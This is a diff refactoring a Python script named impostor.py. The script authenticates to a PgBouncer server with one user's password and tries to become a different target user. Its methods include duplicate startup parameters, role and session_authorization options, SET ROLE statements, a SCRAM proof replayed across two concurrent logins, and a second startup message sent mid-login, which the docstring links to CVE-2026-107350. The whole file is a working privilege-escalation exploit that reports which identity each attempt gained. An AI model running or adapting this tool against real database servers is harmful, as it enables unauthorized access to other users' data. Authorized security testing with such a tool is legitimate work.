@@ -1,7 +1,7 @@
-"""Tries to become another user of PgBouncer than the one whose password is known, in every way that a login offers.
+"""Tries in every way that a login offers to become another user of PgBouncer than the one whose password is known.
 
-usage: impostor.py HOST PORT KNOWN OWN_DATABASE TARGET TARGET_DATABASE      prints {attempt: whom it became, or why not}
-The password of KNOWN is read from standard input. CVE-2026-107350 is the second start within one login.
+usage: impostor.py HOST PORT KNOWN OWN_DATABASE TARGET TARGET_DATABASE      prints {attempt: outcome}
+Reads the password of KNOWN from standard input. CVE-2026-107350 is the second start within one login.
 """
 
 from __future__ import annotations
@@ -16,15 +16,14 @@ from concurrent.futures import ThreadPoolExecutor
 from postgresql_wire import dial, final, first, message, reason, startup
 
 PATIENCE_S = 5.0
-# How long the server may stay silent before the next message is sent all the same.
+# Send the next message after this silence of the server.
 SILENCE_S = 0.4
-# Each attempt has connections of its own.
 AT_ONCE = 8
-NOBODYS = "database_of_nobody"
+MISSING = "database_that_does_not_exist"
 
 
 class Refused(Exception):
-    """In the server's own words."""
+    """The server's message."""
 
 
 class Login:
@@ -42,12 +41,12 @@ class Login:
         self.socket.settimeout(patience_s)
         while len(self.read) < 5 or len(self.read) < 1 + struct.unpack("!I", self.read[1:5])[0]:
             try:
-                piece = self.socket.recv(65536)
+                chunk = self.socket.recv(65536)
             except TimeoutError:
                 return None
-            if not piece:
-                raise Refused("closed without a word")
-            self.read += piece
+            if not chunk:
+                raise Refused("closed without a message")
+            self.read += chunk
         end = 1 + struct.unpack("!I", self.read[1:5])[0]
         kind, body, self.read = self.read[:1], self.read[5:end], self.read[end:]
         if kind == b"E":
@@ -56,11 +55,11 @@ class Login:
 
     def until(self, wanted: bytes) -> bytes:
         while True:
-            told = self.next()
-            if told is None:
+            received = self.next()
+            if received is None:
                 raise Refused("silence")
-            if told[0] == wanted:
-                return told[1]
+            if received[0] == wanted:
+                return received[1]
 
     def drain(self) -> None:
         while self.next(SILENCE_S):
@@ -73,14 +72,14 @@ class Login:
         return final(self.bare, challenge, self.password)
 
     def challenge(self) -> str:
-        """The server's half of the exchange; what else it says meanwhile does not matter."""
+        """The server's half of the SCRAM exchange, skipping other messages."""
         while True:
             body = self.until(b"R")
             if struct.unpack("!I", body[:4])[0] == 11:
                 return body[4:].decode()
 
     def who(self) -> str:
-        """Whom PostgreSQL takes this login for."""
+        """The user and database of this login according to PostgreSQL."""
         self.until(b"Z")
         self.send(message(b"Q", b"SELECT current_user || '@' || current_database()\0"))
         row = self.until(b"D")
@@ -122,27 +121,27 @@ class Impostor:
             login.send(again)
             login.drain()
             login.send(login.final(challenge))
-        elif when == "with the proof before it":
+        elif when == "after the proof":
             login.send(login.final(challenge), again)
-        elif when == "with the proof behind it":
+        elif when == "before the proof":
             login.send(again, login.final(challenge))
         else:
             login.send(login.final(challenge))
         return login.who()
 
     def crossed(self) -> str:
-        """Two logins at once: the proof that was made for the one is sent to the other."""
-        one, other = self.login(), self.login()
-        one.send(startup(("user", self.known), ("database", self.own)))
-        other.send(startup(("user", self.target), ("database", self.theirs)))
-        other.bare = one.bare
-        one.send(one.first())
-        other.send(other.first())
-        proof = one.final(one.challenge())
-        other.challenge()
-        one.send(proof)
-        other.send(proof)
-        return other.who()
+        """Two logins at once: the proof for one is also sent to the other."""
+        known, target = self.login(), self.login()
+        known.send(startup(("user", self.known), ("database", self.own)))
+        target.send(startup(("user", self.target), ("database", self.theirs)))
+        target.bare = known.bare
+        known.send(known.first())
+        target.send(target.first())
+        proof = known.final(known.challenge())
+        target.challenge()
+        known.send(proof)
+        target.send(proof)
+        return target.who()
 
     def afterwards(self, statement: str) -> str:
         login = self.login()
@@ -156,35 +155,28 @@ class Impostor:
 
     def attempts(self):
         known, target, own, theirs = self.known, self.target, self.own, self.theirs
-        yield "as oneself", lambda: self.plain(("user", known), ("database", own))
+        yield "the known user in its database", lambda: self.plain(("user", known), ("database", own))
         yield "the target's name with the known password", lambda: self.plain(("user", target), ("database", theirs))
         yield "the known user in the target's database", lambda: self.plain(("user", known), ("database", theirs))
         yield "both names in one start", lambda: self.plain(("user", known), ("user", target), ("database", theirs))
-        yield "both names, the other way round", lambda: self.plain(("user", target), ("user", known), ("database", theirs))
+        yield (
+            "both names in one start, the target first",
+            lambda: self.plain(("user", target), ("user", known), ("database", theirs)),
+        )
         for option in ("role", "session_authorization"):
             yield f"{option} at login", lambda o=option: self.plain(("user", known), ("database", own), (o, target))
-            yield (
-                f"{option} in the options",
-                lambda o=option: self.plain(("user", known), ("database", own), ("options", f"-c {o}={target}")),
-            )
+            options = ("options", f"-c {option}={target}")
+            yield f"{option} in the options", lambda o=options: self.plain(("user", known), ("database", own), o)
         for statement in (f'SET ROLE "{target}"', f'SET SESSION AUTHORIZATION "{target}"'):
-            yield f"{statement} afterwards", lambda s=statement: self.afterwards(s)
-        yield "a proof crossed over", self.crossed
-        moments = (
-            "at once",
-            "before the exchange",
-            "within the exchange",
-            "with the proof behind it",
-            "with the proof before it",
-        )
-        for before, when in itertools.product((NOBODYS, own, "pgbouncer"), moments):
-            for database in (theirs, "pgbouncer") if before == NOBODYS else (theirs,):
-                yield (
-                    f"a second start {when}: {before}, then {database}",
-                    lambda b=before, d=database, w=when: self.twice(b, d, w),
-                )
+            yield f"{statement} after the login", lambda s=statement: self.afterwards(s)
+        yield "the proof of another login", self.crossed
+        moments = ("at once", "before the exchange", "within the exchange", "before the proof", "after the proof")
+        for before, when in itertools.product((MISSING, own, "pgbouncer"), moments):
+            for database in (theirs, "pgbouncer") if before == MISSING else (theirs,):
+                second_start = f"a second start {when}: {before}, then {database}"
+                yield second_start, lambda b=before, d=database, w=when: self.twice(b, d, w)
 
-    def tried(self) -> dict[str, str]:
+    def outcomes(self) -> dict[str, str]:
         def outcome(attempt) -> str:
             try:
                 return "became " + attempt()
@@ -198,7 +190,8 @@ class Impostor:
 
 def main() -> None:
     host, port, known, own, target, theirs = sys.argv[1:]
-    print(json.dumps(Impostor((host, int(port)), known, sys.stdin.readline().rstrip("\n"), own, target, theirs).tried()))
+    password = sys.stdin.readline().rstrip("\n")
+    print(json.dumps(Impostor((host, int(port)), known, password, own, target, theirs).outcomes()))
 
 
 main()
